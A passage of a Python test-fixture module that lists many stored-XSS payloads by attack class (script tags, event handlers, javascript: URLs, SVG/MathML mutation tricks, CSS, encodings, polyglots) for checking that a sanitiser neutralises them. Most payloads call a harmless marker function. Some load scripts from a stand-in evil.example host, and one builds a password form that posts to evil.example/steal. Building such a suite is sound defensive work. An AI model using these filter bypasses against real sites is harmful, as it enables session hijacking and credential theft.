"""Stored-XSS payloads that every save path for user text or HTML must neutralise.

Each payload, if a browser rendered it unsanitised, tries to run JavaScript, and wherever the
attack class allows it the code it runs is exactly ``MARKER_CALL`` (``window.__xss()``). That makes
execution detectable: a browser test defines the marker function before the stored content loads
and fails if it was ever called, for example::

    page.add_init_script("window.__xssHits = 0; window.__xss = () => { window.__xssHits++; };")
    page.goto(url_showing_the_stored_content)
    page.mouse.move(10, 10)  # give hover/focus handlers a chance
    assert page.evaluate("window.__xssHits") == 0

A few classes cannot call a function in the page itself (``vbscript:`` only ran in old IE, a
``data:`` document runs in an opaque origin, ``-moz-binding`` and ``<script src>`` load an external
file); they carry the marker where they can (inside the encoded document, in a URL fragment), and
the rest load from ``evil.example``. A checker test therefore never relies on the marker text: it
asserts that the stored HTML is safe (``tests.security.html_safety``).

``SECTIONS`` keeps the payloads grouped by attack class; ``PAYLOADS`` is all of them in order, and
``PAYLOAD_SECTIONS`` gives the section of each payload (same order), for readable test ids.
"""

import base64

MARKER_CALL = "window.__xss()"
_X = MARKER_CALL
_JS = f"javascript:{_X}"
_HTML_DOC = f"<script>{_X}</script>"
_HTML_DOC_B64 = base64.b64encode(_HTML_DOC.encode()).decode()
_SVG_DOC_B64 = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_X}"/>'.encode()
).decode()


def _dec(text: str, *, semicolon: bool = True, pad: int = 0) -> str:
    """Every character as a decimal character reference (``&#106;``), optionally zero-padded."""
    end = ";" if semicolon else ""
    return "".join(f"&#{ord(c):0{pad}d}{end}" for c in text)


def _hex(text: str, *, semicolon: bool = True, pad: int = 0, upper: bool = False) -> str:
    """Every character as a hexadecimal character reference (``&#x6a;``)."""
    end = ";" if semicolon else ""
    x = "X" if upper else "x"
    return "".join(f"&#{x}{ord(c):0{pad}x}{end}" for c in text)


# ---------------------------------------------------------------------------------------------
# 1. Classic <script>: case, whitespace, nulls, unclosed, nested, split, odd closers.
# ---------------------------------------------------------------------------------------------
SCRIPT_TAGS = (
    f"<script>{_X}</script>",
    f"<SCRIPT>{_X}</SCRIPT>",
    f"<ScRiPt>{_X}</sCrIpT>",
    f"<script >{_X}</script >",
    f"<script\t>{_X}</script\t>",
    f"<script\n>{_X}</script\n>",
    f"<script/>{_X}</script>",
    f"<script/x>{_X}</script>",
    f'<script type="text/javascript">{_X}</script>',
    f'<script type="module">{_X}</script>',
    f'<script language="javascript">{_X}</script>',
    f"<script>{_X}",
    f"<script>{_X}//",
    f"<script>{_X}</script",
    f"<script>/*</script>*/{_X}</script>",
    f"<scr<script>ipt>{_X}</scr</script>ipt>",
    f"<scr<script>ipt>{_X}</script>",
    f"<<script>script>{_X}<</script>/script>",
    f"<scr\x00ipt>{_X}</scr\x00ipt>",
    f"<script\x00>{_X}</script>",
    f"\x00<script>{_X}</script>",
    f"<script>{_X}</script\x00>",
    f"<script src=data:text/javascript,{_X}></script>",
    f'<script src="data:,{_X}"></script>',
    "<script src=//evil.example/xss.js></script>",
    "<script src=https://evil.example/xss.js>",
    f'<script>eval("window.__x"+"ss()")</script><script>{_X}</script>',
    f"<script>// <!--\n{_X}\n// --></script>",
    f"<script><!--\n{_X}\n--></script>",
    f"<script>{_X}</script><p>after</p>",
    f"<p>before</p><script>{_X}</script>",
    f"<p><script>{_X}</script></p>",
    f"<table><script>{_X}</script></table>",
    f"<script>\n{_X}\n</script>",
    f"<script>{_X}</scRipt foo=bar>",
    f"<script defer>{_X}</script>",
    f"<script async src=x onerror={_X}></script>",
    f"<script\tsrc=x\nonerror={_X}></script>",
)

# ---------------------------------------------------------------------------------------------
# 2. Event handlers on many elements, with odd separators, quoting and encodings.
# ---------------------------------------------------------------------------------------------
_HANDLER_ELEMENTS = (
    ("img src=x", "onerror", ""),
    ("img src=x", "OnErRoR", ""),
    ("image src=x", "onerror", ""),
    ("svg", "onload", ""),
    ("svg/", "onload", ""),
    ("body", "onload", ""),
    ("body", "onpageshow", ""),
    ("body", "onfocus", ""),
    ("body", "onhashchange", ""),
    ("details open", "ontoggle", ""),
    ("video src=x", "onerror", ""),
    ("video", "onloadstart", "<source src=x>"),
    ("audio src=x", "onerror", ""),
    ("audio", "onerror", "<source src=x>"),
    ("input autofocus", "onfocus", ""),
    ("input type=image src=x", "onerror", ""),
    ("select autofocus", "onfocus", ""),
    ("textarea autofocus", "onfocus", ""),
    ("button autofocus", "onfocus", ""),
    ("keygen autofocus", "onfocus", ""),
    ("marquee", "onstart", ""),
    ("marquee loop=1 width=0", "onfinish", ""),
    ("iframe", "onload", ""),
    ("object data=x", "onerror", ""),
    ("embed src=x", "onerror", ""),
    ("style", "onload", ""),
    ("link rel=stylesheet href=x", "onerror", ""),
    ("script src=x", "onerror", ""),
    ("a href=#", "onmouseover", ""),
    ("a href=https://example.org", "onclick", ""),
    ("p", "onmouseover", ""),
    ("p", "onclick", ""),
    ("span", "onmouseenter", ""),
    ("strong", "onpointerover", ""),
    ("b", "onmousemove", ""),
    ("em", "oncopy", ""),
    ("h2", "oncontextmenu", ""),
    ("div", "onpointerenter", ""),
    ("abbr title=x", "onmouseover", ""),
    ("table", "onmouseover", "<tr><td>x</td></tr>"),
    ("td", "onmouseover", ""),
    ("ol", "onfocusin", ""),
    ("div contenteditable autofocus", "onfocus", ""),
    ("div tabindex=1 id=x", "onfocus", ""),
    ("xss id=x tabindex=1", "onfocus", ""),
    ("p style=animation-name:x", "onanimationstart", ""),
    ("p style=transition:color 1s", "ontransitionend", ""),
    ("body", "onscroll", ""),
    ("frameset", "onload", ""),
    ("form", "onsubmit", "<button>x</button>"),
    ("form", "onformdata", ""),
    ("meter", "onmouseover", ""),
    ("img src=https://example.org/a.png", "onload", ""),
    ("svg><animate attributeName=x dur=1s", "onbegin", ""),
    ("svg><set attributeName=x to=1", "onbegin", ""),
    ("svg><discard", "onbegin", ""),
    ("body", "onbeforeprint", ""),
    ("body", "onresize", ""),
    ("body", "onmessage", ""),
    ("picture><source srcset=x><img src=x", "onerror", ""),
)

EVENT_HANDLERS = tuple(
    f"<{spec} {handler}={_X}>{inner}" for spec, handler, inner in _HANDLER_ELEMENTS
) + (
    # Odd separators between name and attributes, and between attributes.
    f'<img/src="x"/onerror={_X}>',
    f"<img\tsrc=x\tonerror={_X}>",
    f"<img\nsrc=x\nonerror={_X}>",
    f"<img\rsrc=x\ronerror={_X}>",
    f"<img\x0csrc=x\x0conerror={_X}>",
    f"<img src=x onerror\t=\t{_X}>",
    f"<img src=x onerror\n=\n{_X}>",
    f"<img src=x onerror = {_X}>",
    f"<img src=x\x00onerror={_X}>",
    f"<img src=x on\x00error={_X}>",
    f"<svg/onload={_X}//",
    f"<svg onload={_X}//",
    f"<svg//////onload={_X}>",
    f'<img src="x"onerror="{_X}">',
    f"<img src='x'onerror='{_X}'>",
    f"<img src=x onerror='{_X}'>",
    f'<img src=x onerror="{_X}">',
    # Backticks: a tagged template literal calls the function without parentheses.
    "<img src=x onerror=window.__xss``>",
    "<svg onload=window.__xss``>",
    # Encodings inside the handler: the browser decodes entities before running it.
    "<img src=x onerror=&#119;indow.__xss()>",
    "<img src=x onerror=window&#46;__xss()>",
    f"<img src=x onerror={_dec(_X)}>",
    f"<img src=x onerror={_hex(_X, semicolon=False)}>",
    "<img src=x onerror=\\u0077indow.__xss()>",
    f'<img src=x onerror="javascript:{_X}">',
    f"<img src=x onerror=eval(atob('{base64.b64encode(_X.encode()).decode()}'))>",
    "<img src=x onerror=top['wind'+'ow'].__xss()>",
    # Unclosed and truncated tags that a browser may still complete with later markup.
    f"<img src=x onerror={_X}",
    f'<img src=x onerror="{_X}"',
    f"<img src=x onerror={_X} <p>",
    f"<details open ontoggle={_X}><summary>x</summary></details>",
    f"<input onblur={_X} autofocus><input autofocus>",
    f"<a onfocus={_X} autofocus href=#x id=x>x</a>",
    f"<body/onload={_X}>",
    f'<img src="x" alt="y" title="z" onerror="{_X}">',
    f'<img onerror="{_X}" src="x">',
)

# ---------------------------------------------------------------------------------------------
# 3. Script-bearing URLs (javascript:, vbscript:, data:) in every URL attribute, with encodings.
# ---------------------------------------------------------------------------------------------
_SCHEME_VARIANTS = (
    _JS,
    f"JAVASCRIPT:{_X}",
    f"JaVaScRiPt:{_X}",
    f" javascript:{_X}",
    f"\tjavascript:{_X}",
    f"\x01javascript:{_X}",
    f"\x14javascript:{_X}",
    f"jav\tascript:{_X}",
    f"jav\nascript:{_X}",
    f"jav\rascript:{_X}",
    f"java\x00script:{_X}",
    f"&#106;avascript:{_X}",
    f"&#74;avascript:{_X}",
    f"&#0000106;avascript:{_X}",
    f"&#x6A;avascript:{_X}",
    f"&#x0000006a;avascript:{_X}",
    f"&#106avascript:{_X}",
    f"&#X6a;avascript:{_X}",
    f"{_dec('javascript:')}{_X}",
    f"{_dec('javascript:', semicolon=False)}{_X}",
    f"{_dec('javascript:', semicolon=False, pad=7)}{_X}",
    f"{_hex('javascript:')}{_X}",
    f"{_hex('javascript:', semicolon=False, upper=True)}{_X}",
    f"{_hex('javascript:', pad=8)}{_X}",
    f"jav&#x09;ascript:{_X}",
    f"jav&#x0A;ascript:{_X}",
    f"jav&#x0D;ascript:{_X}",
    f"jav&#9;ascript:{_X}",
    f"jav&Tab;ascript:{_X}",
    f"jav&NewLine;ascript:{_X}",
    f"&#x20;javascript:{_X}",
    f"&#14;javascript:{_X}",
    f"javascript&colon;{_X}",
    f"javascript&#58;{_X}",
    f"javascript&#x3a;{_X}",
    "javascript:%77indow.__xss()",
    f"javascript://%0a{_X}",
    f"javascript://%0D%0A{_X}",
    f"javascript:/**/{_X}",
    f"javascript:void({_X})",
    f"vbscript:{_X}",
    f"VBScript:{_X}",
    f"vbs&#99;ript:{_X}",
    f"livescript:{_X}",
    f"data:text/html,{_HTML_DOC}",
    f"data:text/html;base64,{_HTML_DOC_B64}",
    f"DATA:text/html,{_HTML_DOC}",
    f"d&#97;ta:text/html,{_HTML_DOC}",
    f" data:text/html,{_HTML_DOC}",
    f"data:image/svg+xml;base64,{_SVG_DOC_B64}",
    f"data:text/javascript,{_X}",
)

URL_SCHEMES = tuple(f'<a href="{url}">x</a>' for url in _SCHEME_VARIANTS) + (
    # The same scheme in every other URL-bearing attribute.
    f"<a href={_JS}>unquoted</a>",
    f"<a href='{_JS}'>single</a>",
    f'<a href="{_JS}" title="x">x</a>',
    f'<a title="x" href="{_JS}" rel="noopener">x</a>',
    f'<a href="https://example.org" href="{_JS}">dup</a>',
    f'<area href="{_JS}">',
    f'<map><area shape=rect coords=0,0,9,9 href="{_JS}"></map>',
    f'<img src="{_JS}">',
    f'<img src="x" srcset="{_JS} 1x">',
    f'<img dynsrc="{_JS}">',
    f'<img lowsrc="{_JS}">',
    f'<iframe src="{_JS}"></iframe>',
    f'<iframe src="data:text/html;base64,{_HTML_DOC_B64}"></iframe>',
    f'<frameset><frame src="{_JS}"></frameset>',
    f'<form action="{_JS}"><button>x</button></form>',
    f'<form><button formaction="{_JS}">x</button></form>',
    f'<form><input type=submit formaction="{_JS}"></form>',
    f'<isindex action="{_JS}" type=image>',
    f'<svg><a xlink:href="{_JS}"><text y=20>x</text></a></svg>',
    f'<svg><a href="{_JS}"><text y=20>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{_SVG_DOC_B64}#x"/></svg>',
    f'<math><maction actiontype=statusline xlink:href="{_JS}">x</maction></math>',
    f'<math href="{_JS}">x</math>',
    f'<body background="{_JS}">',
    f'<table background="{_JS}"><tr><td>x</td></tr></table>',
    f'<table><tr><td background="{_JS}">x</td></tr></table>',
    f'<video poster="{_JS}"></video>',
    f'<video><source src="{_JS}"></video>',
    f'<audio src="{_JS}"></audio>',
    f'<object data="{_JS}"></object>',
    f'<object data="data:text/html;base64,{_HTML_DOC_B64}"></object>',
    f'<embed src="{_JS}">',
    f'<embed src="data:image/svg+xml;base64,{_SVG_DOC_B64}">',
    f'<blockquote cite="{_JS}">x</blockquote>',
    f'<q cite="{_JS}">x</q>',
    f'<del cite="{_JS}">x</del>',
    f'<ins cite="{_JS}">x</ins>',
    f'<a href="{_JS}"><img src="https://example.org/a.png"></a>',
    f'<input type=image src="{_JS}">',
    f'<script src="{_JS}"></script>',
    f'<a href="http://example.org" ping="{_JS}">x</a>',
    f'<img src="https://example.org/a.png" longdesc="{_JS}">',
    f'<a href="#" xlink:href="{_JS}">x</a>',
    f'<a href="mocha:{_X}">x</a>',
    f'<a href="feed:{_JS}">x</a>',
    f'<a href="view-source:{_JS}">x</a>',
    f'<a href="jar:{_JS}">x</a>',
)

# ---------------------------------------------------------------------------------------------
# 4. SVG and MathML: foreign content, namespace confusion and mutation XSS.
# ---------------------------------------------------------------------------------------------
SVG_MATHML = (
    f"<svg><script>{_X}</script></svg>",
    f"<svg><script href=data:,{_X} /></svg>",
    f'<svg><script xlink:href="data:,{_X}"></script></svg>',
    f"<svg><script>{_X}</script>",
    f"<svg><![CDATA[><image xlink:href=x onerror={_X}>]]></svg>",
    f'<svg><image href="x" onerror="{_X}"/></svg>',
    f"<svg><foreignObject><img src=x onerror={_X}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={_X}></desc></svg>",
    f"<svg><title><img src=x onerror={_X}></title></svg>",
    f"<svg><style><img src=x onerror={_X}></style></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={_X}>">',
    f"<svg><p><style><img src=x onerror={_X}></style></p></svg>",
    f'<svg><animate xlink:href=#x attributeName=href values="{_JS}"/>'
    "<a id=x><text y=20>x</text></a></svg>",
    f'<svg><set attributeName=onload to="{_X}"/></svg>',
    f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{_X}</handler></svg>",
    f"<svg><iframe><img src=x onerror={_X}></iframe></svg>",
    f"<svg><noscript><img src=x onerror={_X}></noscript></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_X}>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_X}>",
    f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror={_X}>"></style></h1>',
    f'<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror={_X}>">',
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_X}></annotation-xml></math>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={_X}></style></annotation-xml></math>",
    f"<math><style><img src=x onerror={_X}></style></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_X}>",
    f"<svg><svg onload={_X}>",
    f"<svg><a><animate attributeName=href values={_JS} /><text x=20 y=20>x</text></a></svg>",
    f'<svg xmlns="http://www.w3.org/2000/svg"><script>{_X}</script></svg>',
    f"<svg><use href=#x /><g id=x><script>{_X}</script></g></svg>",
    f"<math><xss xlink:href={_JS}>x</xss></math>",
    f"<svg><style>@import'{_JS}';</style></svg>",
    f"<svg><desc><template><img src=x onerror={_X}></template></desc></svg>",
)

# ---------------------------------------------------------------------------------------------
# 5. Raw-text and parser-state tricks: noscript, style, textarea, title, xmp, iframe, noembed,
#    noframes, plaintext, comments, CDATA, template.
# ---------------------------------------------------------------------------------------------
RAW_TEXT_TRICKS = (
    f'<noscript><p title="</noscript><img src=x onerror={_X}>">',
    f"<noscript><style></noscript><img src=x onerror={_X}>",
    f"<noscript></noscript><img src=x onerror={_X}>",
    f'<style><p title="</style><img src=x onerror={_X}>">',
    f"<style></style><img src=x onerror={_X}>",
    f"<style>*{{}}</style ><img src=x onerror={_X}>",
    f'<textarea><p title="</textarea><img src=x onerror={_X}>">',
    f"<textarea></textarea><img src=x onerror={_X}>",
    f'<title><p title="</title><img src=x onerror={_X}>">',
    f"<title></title><img src=x onerror={_X}>",
    f'<xmp><p title="</xmp><img src=x onerror={_X}>">',
    f"<xmp></xmp ><img src=x onerror={_X}>",
    f'<iframe><p title="</iframe><img src=x onerror={_X}>">',
    f'<noembed><p title="</noembed><img src=x onerror={_X}>">',
    f'<noframes><p title="</noframes><img src=x onerror={_X}>">',
    f"<plaintext><img src=x onerror={_X}>",
    f'<listing><p title="</listing><img src=x onerror={_X}>">',
    f"<!--><img src=x onerror={_X}>-->",
    f"<!---><img src=x onerror={_X}>-->",
    f"<!-- --!><img src=x onerror={_X}>-->",
    f"<!--<img src=x onerror={_X}>-->",
    f"<!-- x --><img src=x onerror={_X}><!-- y -->",
    f"<!--[if gte IE 4]><script>{_X}</script><![endif]-->",
    f"<!--[if]><script>{_X}</script -->",
    f"<![CDATA[><img src=x onerror={_X}>]]>",
    f"<![CDATA[<script>{_X}</script>]]>",
    f'<?xml version="1.0"?><img src=x onerror={_X}>',
    f'<? foo="><img src=x onerror={_X}>">',
    f"<!DOCTYPE html><img src=x onerror={_X}>",
    f'<! foo="><img src=x onerror={_X}>">',
    f'</ foo="><img src=x onerror={_X}>">',
    f'</p foo="><img src=x onerror={_X}>">',
    f"<template><img src=x onerror={_X}></template>",
    f"<template><script>{_X}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={_X}></template>",
    f"<div><template shadowrootmode=open><script>{_X}</script></template></div>",
    f'<a title="<!--"><img src=x onerror={_X}>-->',
    f"<table><tr><td><style></td><img src=x onerror={_X}>",
    f"<select><style></select><img src=x onerror={_X}>",
    f"<select><template><style><img src=x onerror={_X}></style></template></select>",
    f"<frameset><noframes><img src=x onerror={_X}></noframes></frameset>",
    f"<table><caption><svg><style><img src=x onerror={_X}></style></svg></caption></table>",
)

# ---------------------------------------------------------------------------------------------
# 6. CSS: url(javascript:), expression(), -moz-binding, @import, behavior, escapes.
# ---------------------------------------------------------------------------------------------
CSS = (
    f'<p style="background:url({_JS})">x</p>',
    f"<p style=\"background-image:url('{_JS}')\">x</p>",
    f'<span style="background:url(&quot;{_JS}&quot;)">x</span>',
    f'<p style="width:expression({_X})">x</p>',
    f'<p style="xss:expr/**/ession({_X})">x</p>',
    f'<p style="text-align:expression({_X})">x</p>',
    f'<p style="text-align:center;width:expression({_X})">x</p>',
    f'<p style="font-weight:bold;background:url({_JS})">x</p>',
    f'<p style="-moz-binding:url(http://evil.example/xss.xml#{_X})">x</p>',
    f'<p style="behavior:url(xss.htc#{_X})">x</p>',
    f"<p style=\"@import '{_JS}';\">x</p>",
    f'<p style="\\62 ackground:url({_JS})">x</p>',
    f'<p style="background:url(\\6a avascript:{_X})">x</p>',
    f'<p style="background:url(\\0006a\\00061vascript:{_X})">x</p>',
    f'<p style="background:u\\rl({_JS})">x</p>',
    f'<p style="text-align:center&#59;background:url({_JS})">x</p>',
    f'<p style="text-align:center\\;background:url({_JS})">x</p>',
    f'<p style="list-style-image:url({_JS})">x</p>',
    f'<p style="content:url({_JS})">x</p>',
    f'<p style="position:fixed;top:0;left:0;width:100%;height:100%" title="{_X}">x</p>',
    f'<p style="color:red;/*;*/background:url({_JS})">x</p>',
    f'<p style="text-align:center}} body {{ background:url({_JS})">x</p>',
    f'<td style="background:url({_JS})">x</td>',
    f'<span style="text-decoration:underline;behavior:url(#default#{_X})">x</span>',
    f"<style>body{{background:url({_JS})}}</style>",
    f"<style>@import '{_JS}';</style>",
    f"<style>@im\\port'\\ja\\vasc\\ript:{_X}';</style>",
    f"<style>p{{-moz-binding:url(http://evil.example/xss.xml#{_X})}}</style>",
    f"<style>*{{x:expression({_X})}}</style>",
    f'<link rel=stylesheet href="{_JS}">',
    f'<link rel=stylesheet href="data:text/css,p{{background:url({_JS})}}">',
    f'<p style="font-style:italic;x:\\65xpression({_X})">x</p>',
    f'<p style="text-align:center" style="background:url({_JS})">x</p>',
    # Allowed properties with a value that loads or runs something.
    f'<p style="text-align:url({_JS})">x</p>',
    f'<span style="font-weight:expression({_X})">x</span>',
    f'<p style="vertical-align:url(https://evil.example/x.png#{_X})">x</p>',
    f"<p style=\"text-align:image-set('{_JS}' 1x)\">x</p>",
    f'<table><tr><th style="text-decoration:url(\\6a avascript:{_X})">x</th></tr></table>',
)

# ---------------------------------------------------------------------------------------------
# 7. Dangerous elements: meta, base, form, object, embed, iframe srcdoc, link import, applet, ...
# ---------------------------------------------------------------------------------------------
DANGEROUS_ELEMENTS = (
    f'<meta http-equiv="refresh" content="0;url={_JS}">',
    f'<meta http-equiv="refresh" content="0; URL=data:text/html;base64,{_HTML_DOC_B64}">',
    f"<meta http-equiv=refresh content=\"0;url='{_JS}'\">",
    f'<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AHcAaQBuAGQAbwB3AC4AXwBfAHgAcwBzACgAKQ-&AD4-{_X}',
    f'<meta http-equiv="refresh" content="0;url=&#106;avascript:{_X}">',
    f'<base href="{_JS}/"><a href="x">x</a>',
    '<base href="https://evil.example/"><img src="x.png">',
    f'<form action="{_JS}"><input type=submit></form>',
    '<form action="https://evil.example/steal"><input name=password type=password></form>',
    f'<form id=f></form><button form=f formaction="{_JS}">x</button>',
    f'<object data="data:text/html,{_HTML_DOC}"></object>',
    f'<object type="text/x-scriptlet" data="{_JS}"></object>',
    f'<object><param name=src value="{_JS}"></object>',
    '<object data="https://evil.example/xss.swf" type="application/x-shockwave-flash"></object>',
    f'<embed src="data:text/html,{_HTML_DOC}">',
    '<embed src="https://evil.example/xss.swf" allowscriptaccess=always>',
    f'<iframe srcdoc="<script>{_X}</script>"></iframe>',
    f'<iframe srcdoc="&lt;img src=x onerror={_X}&gt;"></iframe>',
    f"<iframe srcdoc='&#60;script&#62;{_X}&#60;/script&#62;'></iframe>",
    f'<iframe src="data:text/html,{_HTML_DOC}"></iframe>',
    '<iframe src="https://evil.example/phish"></iframe>',
    f'<link rel=import href="data:text/html,{_HTML_DOC}">',
    f'<link rel=import href="{_JS}">',
    '<link rel=preload href="https://evil.example/x.js" as=script>',
    f'<applet code="javascript:{_X}"></applet>',
    f'<frameset><frame src="data:text/html,{_HTML_DOC}"></frameset>',
    f'<portal src="data:text/html,{_HTML_DOC}"></portal>',
    f'<xss><x:script xmlns:x="http://www.w3.org/1999/xhtml">{_X}</x:script></xss>',
    f'<html xmlns:xss><?import namespace=xss implementation="{_JS}"><xss:xss>x</xss:xss></html>',
    f"<xml><i><b>&lt;img src=x onerror={_X}&gt;</b></i></xml>",
    f"<input type=hidden accesskey=x onclick={_X}>",
    f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={_X}>x</div>",
    f'<a href="https://example.org" target=_blank>x</a><script>{_X}</script>',
    f'<a href="https://example.org" target=_blank rel=opener onclick="{_X}">x</a>',
    f'<div id=__xss data-x="{_X}">clobbering</div>',
    f"<img name=__xss src=x onerror={_X}>",
    f"<form name=getElementById><img src=x onerror={_X}></form>",
)

# ---------------------------------------------------------------------------------------------
# 8. Attribute breakouts: payloads meant to close a quoted/unquoted attribute they land in.
# ---------------------------------------------------------------------------------------------
ATTRIBUTE_BREAKOUTS = (
    f'"><img src=x onerror={_X}>',
    f"'><img src=x onerror={_X}>",
    f"><img src=x onerror={_X}>",
    f'" onmouseover="{_X}" x="',
    f"' onmouseover='{_X}' x='",
    f" onmouseover={_X} ",
    f'"autofocus onfocus="{_X}',
    f'" autofocus onfocus={_X}//',
    f'"/><script>{_X}</script>',
    f"'/><script>{_X}</script>",
    f"</a><script>{_X}</script>",
    f'"></a><img src=x onerror={_X}>',
    f"--><img src=x onerror={_X}>",
    f"]]><img src=x onerror={_X}>",
    f"</title><img src=x onerror={_X}>",
    f"</textarea><img src=x onerror={_X}>",
    f"</style><img src=x onerror={_X}>",
    f"</script><img src=x onerror={_X}>",
    f"</noscript><img src=x onerror={_X}>",
    f'<a href="https://example.org/" onclick="{_X}">x</a>',
    f'<a href="https://example.org/"onclick="{_X}">x</a>',
    f'<a href="https://example.org/?q=&quot;onclick=&quot;{_X}">x</a>',
    f'<a title="&quot;&gt;&lt;img src=x onerror={_X}&gt;">x</a>',
    f"<a title=x onclick={_X}>x</a>",
    f'<p title="</p><script>{_X}</script>">x</p>',
    f'<p title="x" title="y" onclick="{_X}">x</p>',
    f'<a href="x" title=\'"><img src=x onerror={_X}>\'>x</a>',
    f'<img src=x alt="x" title=y" onerror={_X}>',
    f'<img src="x" alt="`" onerror="{_X}">',
    f"<img src=x alt=``onerror={_X}>",
    f'<img src=x alt="\\" onerror={_X}//">',
    f'\\";{_X}//',
    f"';{_X}//",
    f'";{_X}//',
    f"{{{{constructor.constructor('{_X}')()}}}}",
    f"${{{_X}}}",
    f"{{{{{_X}}}}}",
    f"{{% raw %}}<img src=x onerror={_X}>{{% endraw %}}",
)

# ---------------------------------------------------------------------------------------------
# 9. Entity-encoded and double-encoded markup: must stay text, never become tags.
# ---------------------------------------------------------------------------------------------
ENTITY_ENCODED = (
    f"&lt;script&gt;{_X}&lt;/script&gt;",
    f"&lt;img src=x onerror={_X}&gt;",
    f"&amp;lt;script&amp;gt;{_X}&amp;lt;/script&amp;gt;",
    f"&amp;lt;img src=x onerror={_X}&amp;gt;",
    f"&amp;amp;lt;script&amp;amp;gt;{_X}&amp;amp;lt;/script&amp;amp;gt;",
    f"&#60;script&#62;{_X}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{_X}&#x3c;/script&#x3e;",
    f"&#x3C;img src=x onerror={_X}&#x3E;",
    f"&#0000060;script&#0000062;{_X}&#0000060;/script&#0000062;",
    f"&#60script&#62{_X}&#60/script&#62",
    f"&LT;script&GT;{_X}&LT;/script&GT;",
    f"&lt&#115;cript&gt;{_X}&lt;/script&gt;",
    f"&amp;#60;script&amp;#62;{_X}&amp;#60;/script&amp;#62;",
    f"<p>&lt;img src=x onerror={_X}&gt;</p>",
    f"<pre>&lt;script&gt;{_X}&lt;/script&gt;</pre>",
    f"<code>&lt;svg onload={_X}&gt;</code>",
    f'<a title="&lt;script&gt;{_X}&lt;/script&gt;">x</a>',
    f"%3Cscript%3E{_X}%3C/script%3E",
    f"\\x3cscript\\x3e{_X}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{_X}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_X}+ADw-/script+AD4-",
    f"&lt;<script>{_X}</script>&gt;",
    f"<&#115;cript>{_X}</script>",
    f"&#60;&#115;&#99;&#114;&#105;&#112;&#116;&#62;{_X}",
)

# ---------------------------------------------------------------------------------------------
# 10. Unicode tricks: fullwidth brackets, zero-width and bidi characters, lookalikes, overlong.
# ---------------------------------------------------------------------------------------------
UNICODE_TRICKS = (
    f"\uff1cscript\uff1e{_X}\uff1c/script\uff1e",
    f"\uff1cimg src=x onerror={_X}\uff1e",
    f"\ufe64script\ufe65{_X}\ufe64/script\ufe65",
    f"\u2039script\u203a{_X}\u2039/script\u203a",
    f"<scr\u200bipt>{_X}</scr\u200bipt>",
    f"<img src=x on\u200berror={_X}>",
    f"<img src=x \u200bonerror={_X}>",
    f"<img\u00a0src=x\u00a0onerror={_X}>",
    f"<img\u3000src=x\u3000onerror={_X}>",
    f'<a href="java\u200bscript:{_X}">x</a>',
    f'<a href="\u200bjavascript:{_X}">x</a>',
    f'<a href="\ufeffjavascript:{_X}">x</a>',
    f'<a href="java\u00adscript:{_X}">x</a>',
    f'<a href="\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1a{_X}">x</a>',
    f'<a href="javascript\uff1a{_X}">x</a>',
    f'<a href="\u202ejavascript:{_X}">x</a>',
    f"\u202e<img src=x onerror={_X}>",
    f"<\u0131mg src=x onerror={_X}>",
    f"<\u017fcript>{_X}</\u017fcript>",
    "<img src=x onerror=\\u{77}indow.__xss()>",
    f"\xc0\xbcscript\xc0\xbe{_X}\xc0\xbc/script\xc0\xbe",
    f"\U000e003cscript\U000e003e{_X}",
)

# ---------------------------------------------------------------------------------------------
# 11. Very long values and deep nesting (resource limits, truncation that splits a tag).
# ---------------------------------------------------------------------------------------------
LONG_VALUES = (
    f'<a href="https://example.org/{"a" * 20000}" onclick="{_X}">x</a>',
    f'<img src="x" alt="{"A" * 50000}" onerror="{_X}">',
    f'<a href="{" " * 5000}{_JS}">x</a>',
    f'<a title="{"&quot;" * 2000}" onclick="{_X}">x</a>',
    f'<p style="{"text-align:center;" * 1000}background:url({_JS})">x</p>',
    f"{'<b>' * 500}<img src=x onerror={_X}>{'</b>' * 500}",
    f"{'<div>' * 300}<script>{_X}</script>",
    f"{'x' * 300}<img src=x onerror={_X}>",
    f"<img src=x {'a=1 ' * 2000}onerror={_X}>",
    f'<a href="{_JS}{"/" * 10000}">x</a>',
)

# ---------------------------------------------------------------------------------------------
# 12. Linkify: plain text that the link-maker in the cleaning pass must not turn into markup.
# ---------------------------------------------------------------------------------------------
LINKIFY = (
    _JS,
    f"see {_JS} here",
    f'www.example.org/"><img src=x onerror={_X}>',
    f"https://example.org/<script>{_X}</script>",
    f"http://example.org/?q=\"onmouseover='{_X}'",
    f"https://example.org/&quot;onmouseover=&quot;{_X}",
    f"www.example.org/'onmouseover='{_X}'",
    f'user@example.org"><img src=x onerror={_X}>',
    f"mailto:x@example.org?body=<script>{_X}</script>",
    f'<pre>https://example.org/"><img src=x onerror={_X}></pre>',
    f'<a href="https://example.org/">www.example.org/"onclick="{_X}</a>',
    f"https://example.org/#<svg/onload={_X}>",
    f"data:text/html,{_HTML_DOC}",
    f"vbscript:{_X}",
)

# ---------------------------------------------------------------------------------------------
# 13. Polyglots: one string that executes in many contexts at once.
# ---------------------------------------------------------------------------------------------
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__xss() )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss()//>\\x3e",
    "javascript:/*--></title></style></textarea></script></xmp>"
